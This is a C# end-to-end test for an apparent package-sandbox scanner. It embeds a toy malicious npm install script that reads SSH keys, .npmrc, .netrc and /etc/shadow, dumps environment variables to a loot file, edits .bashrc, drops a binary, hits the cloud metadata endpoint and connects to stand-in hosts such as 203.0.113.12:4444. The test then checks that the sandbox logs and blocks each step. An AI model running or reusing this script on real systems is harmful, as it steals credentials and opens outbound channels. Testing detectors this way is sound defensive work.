using System.Globalization;
using System.Net;
using System.Net.NetworkInformation;
using System.Net.Sockets;
using System.Text.Json;
using Fangs.Protocol;
using Fangs.Runner.Sandbox;
using Fangs.Runner.Sandbox.Network;

namespace Fangs.Tests.EndToEnd;

/// <summary>A package that does what malicious packages do, from its tarball to the rows of the database.</summary>
[Collection(nameof(ToyRunner))]
public sealed class ToyPackageSpecs(ToyRunner toys)
{
    private const string Home = "/home/node";

    // PORT and ADDRESSES stand for a server of the test on this host. Every result is printed, so that the output tells what the package got.
    private const string Thief = """
        'use strict';
        const fs = require('fs'), os = require('os'), dns = require('dns').promises, net = require('net'), tls = require('tls'), http = require('http');
        const { execSync, execFileSync } = require('child_process');
        const say = (what, how) => console.log(what + '=' + how);
        const attempt = (what, act) => { try { say(what, 'got ' + act()); } catch (e) { say(what, e.code ?? e.status ?? e.message); } };
        const ends = (what, socket) => new Promise(done => {
          socket.on('error', e => { say(what, e.code); done(); }).on('close', () => { say(what, 'closed'); done(); }).on('secureConnect', () => say(what, 'SECURE'));
          socket.setTimeout(10000, () => socket.destroy());
        });

        attempt('npmrc', () => fs.readFileSync('../../../home/node/.npmrc').length);
        process.chdir(os.homedir());
        attempt('id_rsa', () => fs.readFileSync('.aws/../.ssh/./id_rsa').length);
        attempt('shadow', () => fs.readFileSync('../../etc/shadow').length);
        attempt('pypirc', () => fs.readFileSync('./.pypirc').length);
        attempt('shell', () => execSync('cd .ssh && cat ../.netrc id_ed25519; true').length);
        attempt('bashrc', () => fs.appendFileSync('.bashrc', 'export PATH=/tmp:$PATH\n'));
        attempt('loot', () => fs.writeFileSync('/tmp/loot.txt', JSON.stringify(process.env)));
        attempt('drop', () => fs.writeFileSync('/tmp/.updater', fs.readFileSync('/usr/bin/env'), { mode: 0o755 }));
        attempt('dropped', () => execFileSync('/tmp/.updater', ['-i', 'SECRET=two words', '/bin/sh', '-c', 'echo $SECRET']).toString().trim());

        (async () => {
          await dns.lookup('lookup.toy.example').then(a => say('lookup', a.address), e => say('lookup', e.code));
          await dns.resolveTxt('txt.toy.example').then(a => say('txt', a), e => say('txt', e.code));
          await ends('node-tls', tls.connect({ host: '203.0.113.10', port: 443, servername: 'node-sni.toy.example' }));
          attempt('curl', () => execFileSync('curl', ['-sk', '--max-time', '10', '--resolve', 'curl-sni.toy.example:443:203.0.113.11', 'https://curl-sni.toy.example/x']).length);
          await ends('raw', net.connect(4444, '203.0.113.12', function () { this.write('hello'); }));
          await ends('metadata', http.get('http://169.254.169.254/latest/meta-data/iam/'));
          for (const address of ADDRESSES) {
            await ends('host ' + address, net.connect(PORT, address, function () { this.write('hello host'); }));
            const datagram = require('dgram').createSocket('udp4');
            await new Promise(done => datagram.send('hello host', PORT, address, e => { datagram.close(); done(); }));
          }
        })();
        """;

    [SkippableFact]
    public async Task Everything_that_a_thief_does_is_stored_and_nothing_of_it_leaves_the_sandbox()
    {
        toys.Require();
        Skip.If(CommandLine.Find("curl") is null, "the package calls curl, which this host does not have");
        using var server = new TcpListener(IPAddress.Any, 0);
        server.Start();
        var port = ((IPEndPoint)server.LocalEndpoint).Port;
        using var datagrams = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        datagrams.Bind(new IPEndPoint(IPAddress.Any, port));
        var addresses = HostAddresses();
        toys.Registry.Publish("thief", "node thief.js", "require('fs').readFileSync('../home/node/.docker/config.json')", null, ("thief.js", Thief
            .Replace("PORT", port.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("ADDRESSES", JsonSerializer.Serialize(addresses), StringComparison.Ordinal)));

        var run = await toys.ScanAsync("thief");
        run.AssertDoneWithoutLoss();
        var events = run.Events();
        Assert.Single(events.Select(e => e.Cgroup).Distinct());
        var node = AssertPrograms(events);
        AssertFiles(events, node);
        AssertNetwork(events, node, addresses.Select(a => $"{a}:{port}"));
        AssertImport(events);
        AssertFingerprints(run, events, port);

        AssertNothingGotAnything(run);
        var records = toys.Sandboxes[RunId.Parse(run.Id)].Gateway.Records;
        Assert.All(records.Where(r => r.Kind == GatewayRecordKind.Allowed), r => Assert.Equal(("127.0.0.1", toys.Registry.Address.Port), (r.Address, r.Port)));
        string[] refused = ["203.0.113.10:443", "203.0.113.11:443", "203.0.113.12:4444", "169.254.169.254:80", .. addresses.Where(a => a != "127.0.0.1").Select(a => $"{a}:{port}")];
        Assert.Empty(refused.Except(records.Where(r => r.Kind == GatewayRecordKind.Refused).Select(r => $"{r.Address}:{r.Port}")));
        Assert.False(server.Pending());
        Assert.Equal(0, datagrams.Available);
    }

    private static string[] HostAddresses() =>
    [
        .. NetworkInterface.GetAllNetworkInterfaces().SelectMany(i => i.GetIPProperties().UnicastAddresses)
            .Select(a => a.Address).Where(a => a.AddressFamily == AddressFamily.InterNetwork).Append(IPAddress.Loopback).Distinct().Select(a => a.ToString()),
    ];

    // From npm down to the program that was dropped: each is the child of the one before. Returns the process of the script.
    private static StoredEvent AssertPrograms(IReadOnlyList<StoredEvent> events)
    {
        var execs = events.Where(e => e.Type == "exec").ToArray();
        var shell = Assert.Single(execs, e => e.Argv == "sh -c node thief.js");
        Assert.Contains(execs, e => e.Pid == shell.Ppid && e.Role == "npm" && e.Argv.Contains("npm install -- thief@1.0.0", StringComparison.Ordinal));
        var node = Assert.Single(execs, e => e.Argv == "node thief.js");
        var inner = Assert.Single(execs, e => e.Argv == "/bin/sh -c cd .ssh && cat ../.netrc id_ed25519; true");
        var cat = Assert.Single(execs, e => e.Argv == "cat ../.netrc id_ed25519");
        var dropped = Assert.Single(execs, e => e.Binary == "/tmp/.updater");
        var curl = Assert.Single(execs, e => e.Argv.StartsWith("curl -sk", StringComparison.Ordinal));
        Assert.Equal(
            ["/tmp/.updater", "-i", "SECRET=two words", "/bin/sh", "-c", "echo $SECRET"], dropped.Data.GetProperty("ArgvStrs").EnumerateArray().Select(a => a.GetString()));
        Assert.Equal((shell.Pid, node.Pid, inner.Pid, node.Pid, node.Pid), (node.Ppid, inner.Ppid, cat.Ppid, dropped.Ppid, curl.Ppid));
        Assert.All([(shell, "sh"), (node, "node"), (inner, "sh"), (cat, "cat"), (curl, "curl")], pair => Assert.Matches($"^/.*{pair.Item2}$", pair.Item1.Binary));
        Assert.All([shell, node, inner, cat, dropped, curl], e => Assert.Equal(("install", "script", 0, 0), (e.Phase, e.Role, e.Ret, e.Number("Truncated"))));
        return node;
    }

    private static void AssertFiles(IReadOnlyList<StoredEvent> events, StoredEvent node)
    {
        const int accessMode = 3, readOnly = 0, writeOnly = 1;
        const long missing = -2, denied = -13, opened = 0;
        var cat = events.Single(e => e.Type == "exec" && e.Argv == "cat ../.netrc id_ed25519");
        (string Path, StoredEvent By, bool IsCredential, int Mode, long Ret)[] expected =
        [
            ($"{Home}/.npmrc", node, true, readOnly, opened),
            ($"{Home}/.ssh/id_rsa", node, true, readOnly, opened),
            ("/etc/shadow", node, true, readOnly, denied),
            ($"{Home}/.pypirc", node, false, readOnly, missing),
            ($"{Home}/.netrc", cat, true, readOnly, opened),
            ($"{Home}/.ssh/id_ed25519", cat, true, readOnly, opened),
            ($"{Home}/.bashrc", node, false, writeOnly, opened),
            ("/tmp/loot.txt", node, false, writeOnly, opened),
            ("/tmp/.updater", node, false, writeOnly, opened),
        ];
        foreach (var (path, by, isCredential, mode, ret) in expected)
        {
            var e = Assert.Single(events, e => e.Type == "file_access" && e.Path == path && e.Op == "open");
            Assert.Equal((path, by.Pid, by.Ppid, isCredential, mode, Math.Min(e.Ret, 0), ret == opened, "install", "script"),
                (path, e.Pid, e.Ppid, e.IsCredential, e.Number("Flags") & accessMode, ret, e.IsResolved, e.Phase, e.Role));
        }
    }

    private static void AssertNetwork(IReadOnlyList<StoredEvent> events, StoredEvent node, IEnumerable<string> host)
    {
        var curl = events.Single(e => e.Type == "exec" && e.Argv.StartsWith("curl -sk", StringComparison.Ordinal));
        foreach (var (destination, by) in (IEnumerable<(string, StoredEvent)>)
                 [("203.0.113.10:443", node), ("203.0.113.11:443", curl), ("203.0.113.12:4444", node), ("169.254.169.254:80", node), .. host.Select(h => (h, node))])
            Same(by, Assert.Single(events, e => e.Type == "net_connect" && e.Destination == destination && e.Text("Proto") == "tcp"));
        foreach (var destination in host)
            Same(node, Assert.Single(events, e => e.Type == "net_connect" && e.Destination == destination && e.Text("Proto") == "udp"));

        Same(node, Assert.Single(events, e => e.Type == "dns_query" && e.Text("QName") == "lookup.toy.example" && e.Number("QType") == 1));
        Same(node, Assert.Single(events, e => e.Type == "dns_query" && e.Text("QName") == "txt.toy.example" && e.Number("QType") == 16));
        Assert.Contains(events, e => e.Type == "dns_answer" && e.Text("QName") == "lookup.toy.example" && e.Data.GetProperty("Answers").ToString().Contains("198.18.", StringComparison.Ordinal));
        Assert.DoesNotContain(events, e => e.Text("QName") == "curl-sni.toy.example"); // curl was told the address

        foreach (var (name, destination, by) in new[] { ("node-sni.toy.example", "203.0.113.10:443", node), ("curl-sni.toy.example", "203.0.113.11:443", curl) })
        {
            var hello = Assert.Single(events, e => e.Type == "tls_sni" && e.Text("SNI") == name);
            Same(by, hello);
            Assert.Equal((destination, JsonValueKind.Null), (hello.Destination, hello.Data.GetProperty("ParseErr").ValueKind));
        }

        var request = Assert.Single(events, e => e.Type == "http_request" && e.Destination == "169.254.169.254:80");
        Same(node, request);
        Assert.Equal(("GET", "/latest/meta-data/iam/", "169.254.169.254"), (request.Text("Method"), request.Text("Path"), request.Text("HttpHost")));
    }

    private static void AssertImport(IReadOnlyList<StoredEvent> events)
    {
        var loader = Assert.Single(events, e => e.Type == "exec" && e.Argv.Contains("/work/node_modules/thief/index.js", StringComparison.Ordinal));
        var read = Assert.Single(events, e => e.Type == "file_access" && e.Path == $"{Home}/.docker/config.json");
        Assert.Equal((loader.Pid, loader.Ppid, true, true, "import", "import"), (read.Pid, read.Ppid, read.IsCredential, read.IsResolved, read.Phase, read.Role));
        Assert.True(read.Ret >= 0);
    }

    private static void AssertFingerprints(StoredRun run, IReadOnlyList<StoredEvent> events, int port)
    {
        var fingerprints = run.Fingerprints();
        (string Category, string Value, bool IsCredential)[] byScript =
        [
            ("fs_new_path_read", $"{Home}/.npmrc", true), ("fs_new_path_read", $"{Home}/.ssh/id_rsa", true), ("fs_new_path_read", $"{Home}/.netrc", true),
            ("fs_new_path_read", "/etc/shadow", true), ("fs_new_path_write", $"{Home}/.bashrc", false), ("fs_new_path_write", "/tmp/loot.txt", false),
            ("fs_new_path_write", "/tmp/.updater", false), ("proc_new_exec", "/tmp/.updater", false), ("net_new_dns", "lookup.toy.example", false),
            ("net_new_dns", "txt.toy.example", false), ("net_new_https_host", "node-sni.toy.example", false), ("net_new_https_host", "curl-sni.toy.example", false),
            ("net_new_destination", "203.0.113.12:4444", false), ("net_new_destination", "169.254.169.254:80", false), ("net_new_destination", $"127.0.0.1:{port}", false),
        ];
        foreach (var (category, value, isCredential) in byScript.Append(("fs_new_path_read", $"{Home}/.docker/config.json", true)))
        {
            var fingerprint = Assert.Single(fingerprints, f => f.Category == category && f.Value == value);
            Assert.Equal(isCredential, (fingerprint.Tags & (int)EventTags.Credential) != 0);
            var first = Assert.Single(events, e => e.Id == fingerprint.FirstEvent);
            Assert.Equal((first.Role, first.Phase), (fingerprint.Role, fingerprint.Phase));
            Assert.Equal(value.Contains(".docker", StringComparison.Ordinal) ? ("import", "import") : ("script", "install"), (fingerprint.Role, fingerprint.Phase));
            Assert.Contains(value, (string[])[first.Path, first.Binary, first.Destination, first.Text("QName"), first.Text("SNI")]);
        }

        Assert.DoesNotContain(fingerprints, f => f.Value == $"{Home}/.pypirc"); // it is not there, and it is no credential that we know of
    }

    // In the package's own words.
    private static void AssertNothingGotAnything(StoredRun run)
    {
        var said = run.Output.Split('\n');
        Assert.All(
            ["npmrc=got 72", "shadow=EACCES", "pypirc=ENOENT", "dropped=got two words", "txt=ENODATA", "node-tls=ECONNRESET", "curl=35", "raw=closed", "metadata=ECONNRESET"],
            words => Assert.Contains(words, said));
        Assert.Contains("host 127.0.0.1=ECONNREFUSED", said);
        Assert.Contains("lookup=198.18.", run.Output);
        Assert.DoesNotContain("SECURE", run.Output);
    }

    private static void Same(StoredEvent exec, StoredEvent e) =>
        Assert.Equal((exec.Pid, exec.Ppid, "install", "script"), (e.Pid, e.Ppid, e.Phase, e.Role));
}
